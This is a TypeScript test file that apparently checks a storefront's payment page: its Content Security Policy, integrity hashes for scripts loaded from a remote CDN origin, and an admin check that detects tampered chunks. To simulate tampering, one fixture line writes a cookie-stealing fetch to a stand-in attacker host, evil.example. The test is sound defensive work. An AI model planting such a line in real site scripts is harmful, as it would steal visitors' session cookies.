import { createReadStream, existsSync, mkdirSync, readFileSync, statSync, writeFileSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { createHash } from 'node:crypto';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { testDatabases } from './helpers/testDatabases.ts';
import { testConfig, type TestApp } from './helpers/testApp.ts';
import { startRegistryApp } from './helpers/registryApp.ts';
import { fakeStoreRoot, type FakeBuild } from './helpers/fakeRemoteBuild.ts';
import { databaseRegistry } from '../src/remotes/registry.ts';
import { signupAdmin } from './authHelpers.ts';
import { shellHtml, writeShellDocument } from './helpers/shellDocument.ts';

// #39 item 0: `npm run start:cluster` serves the remotes from a static origin (REMOTE_<NAME>_URL).
// The payment page's lock must cover that origin: its CSP, its inventory and its tamper check.
const exposes = [
  { id: 'checkout:PaymentPage', name: 'PaymentPage', path: './PaymentPage', assets: { js: { sync: ['assets/PaymentPage-abc.js'], async: [] }, css: { sync: [], async: [] } } },
  { id: 'checkout:CartPage', name: 'CartPage', path: './CartPage', assets: { js: { sync: [], async: [] }, css: { sync: [], async: [] } } },
];
const checkoutBuild: FakeBuild = { routes: [{ path: '/cart', page: 'CartPage' }, { path: '/payment/:orderId', page: 'PaymentPage', private: true }], pages: { CartPage: 'ok', PaymentPage: 'ok' }, manifest: { exposes } };
const sha384 = (body: string | Buffer) => `sha384-${createHash('sha384').update(body).digest('base64')}`;
const TAGS = '<script type="module" crossorigin src="/assets/entry-abc.js"></script><link rel="stylesheet" crossorigin href="/assets/index-abc.css">';

/** A CDN stand-in, as scripts/static-server.mjs: the remotes' dist folders under /<name>/, CORS on everything. */
function staticOrigin(root: string): Promise<{ server: Server; url: string }> {
  const server = createServer((req, res) => {
    const [, name, ...rest] = new URL(req.url ?? '/', 'http://x').pathname.split('/');
    const file = join(root, `${name}-mfe`, 'dist', ...rest);
    res.setHeader('Access-Control-Allow-Origin', '*');
    if (!existsSync(file) || !statSync(file).isFile()) {
      res.statusCode = 404;
      return res.end('not found');
    }
    res.setHeader('Content-Type', file.endsWith('.json') ? 'application/json' : 'text/javascript');
    createReadStream(file).pipe(res);
  });
  return new Promise((done) => server.listen(0, '127.0.0.1', () => done({ server, url: `http://127.0.0.1:${(server.address() as AddressInfo).port}` })));
}

describe.each(testDatabases)('the payment page with its remote on another origin on $name', (database) => {
  let t: TestApp;
  let registry: ReturnType<typeof databaseRegistry>;
  let cdn: { server: Server; url: string };
  let root = '';
  let admin = '';
  const chunkFile = () => join(root, 'checkout-mfe', 'dist', 'assets', 'chunk-def.js');
  beforeAll(async () => {
    root = fakeStoreRoot({ checkout: checkoutBuild });
    // the exposed page's chunk imports another one the manifest does not name: found by following imports
    mkdirSync(join(root, 'checkout-mfe', 'dist', 'assets'), { recursive: true });
    // (the minifier writes some with backquotes; Vite's preload helper names others from the remote's base)
    writeFileSync(join(root, 'checkout-mfe', 'dist', 'assets', 'PaymentPage-abc.js'), 'import { x } from "./chunk-def.js";\nconst deps = ["assets/preloaded-jkl.js"];\nexport const later = () => import(`./lazy-ghi.js`);\nexport default x;\n');
    writeFileSync(join(root, 'checkout-mfe', 'dist', 'assets', 'lazy-ghi.js'), 'export const lazy = 1;\n');
    writeFileSync(join(root, 'checkout-mfe', 'dist', 'assets', 'preloaded-jkl.js'), 'export const preloaded = 1;\n');
    writeFileSync(chunkFile(), 'export const x = 1;\n');
    const shellDist = join(root, 'shell', 'dist');
    mkdirSync(join(shellDist, 'assets'), { recursive: true });
    writeShellDocument(shellDist, shellHtml({ tags: TAGS, root: '<style>.boot{color:red}</style><svg style="display:none"></svg>' }));
    writeFileSync(join(shellDist, 'assets', 'entry-abc.js'), 'export {};\n');
    cdn = await staticOrigin(root);
    const config = testConfig({ frontendsRoot: root });
    config.remotes = { ...config.remotes, checkout: `${cdn.url}/checkout/mf-manifest.json` };
    ({ registry, t } = await startRegistryApp(database, config));
    admin = (await signupAdmin(t)).accessToken;
  });
  afterAll(async () => {
    registry.stop();
    await t.close();
    cdn.server.close();
  });
  const checkNow = async () => (await t.app.inject({ method: 'POST', url: '/api/admin/payment-scripts/check', headers: { authorization: `Bearer ${admin}` } })).json().data as { differences: { file: string; change: string }[] };

  it("allows the remote's origin in the payment page's CSP and locks each of its scripts, the chunks they import included", async () => {
    const res = await t.app.inject({ method: 'GET', url: '/payment/12' });
    expect(res.statusCode).toBe(200);
    const csp = String(res.headers['content-security-policy']);
    for (const kind of ['script-src', 'connect-src', 'style-src', 'img-src', 'font-src']) expect(csp).toMatch(new RegExp(`${kind} 'self' ${cdn.url}[ ;]`));
    expect(csp).toMatch(/^default-src 'none'/);
    // the shell document's own inline styles by hash, no other inline style (#39 item 9)
    expect(csp).toContain(`style-src 'self' ${cdn.url} 'nonce-`);
    expect(csp).toContain(`'unsafe-hashes' 'sha256-${createHash('sha256').update('display:none').digest('base64')}'`);
    expect(csp).toContain(`'sha256-${createHash('sha256').update('.boot{color:red}').digest('base64')}'`);
    expect(csp).not.toContain('unsafe-inline');
    const map = JSON.parse(/<script type="importmap" nonce="[^"]+">([^<]+)<\/script>/.exec(res.body)![1]!).integrity as Record<string, string>;
    const dist = join(root, 'checkout-mfe', 'dist');
    for (const file of ['remoteEntry.js', 'assets/PaymentPage-abc.js', 'assets/chunk-def.js', 'assets/lazy-ghi.js', 'assets/preloaded-jkl.js']) expect(map[`${cdn.url}/checkout/${file}`], file).toBe(sha384(readFileSync(join(dist, file))));
    // a page other than the payment page keeps the store's ordinary policy
    expect((await t.app.inject({ method: 'GET', url: '/cart' })).headers['content-security-policy']).not.toContain('default-src');
  });

  it('lists those scripts for the owner and checks them on their origin: a chunk changed there is named', async () => {
    const list = (await t.app.inject({ method: 'GET', url: '/api/admin/payment-scripts', headers: { authorization: `Bearer ${admin}` } })).json().data.scripts as { url: string; remote: string }[];
    expect(list.filter((s) => s.remote === 'checkout').map((s) => s.url).sort()).toEqual(
      ['assets/PaymentPage-abc.js', 'assets/chunk-def.js', 'assets/lazy-ghi.js', 'assets/preloaded-jkl.js', 'remoteEntry.js'].map((f) => `${cdn.url}/checkout/${f}`),
    );
    expect((await checkNow()).differences).toEqual([]);
    const original = readFileSync(chunkFile());
    writeFileSync(chunkFile(), 'export const x = 1; fetch("//evil.example/" + document.cookie);\n');
    try {
      expect((await checkNow()).differences).toContainEqual(expect.objectContaining({ file: `${cdn.url}/checkout/assets/chunk-def.js`, change: 'content-changed', expected: sha384(original) }));
    } finally {
      writeFileSync(chunkFile(), original);
    }
    expect((await checkNow()).differences).toEqual([]);
  });
});
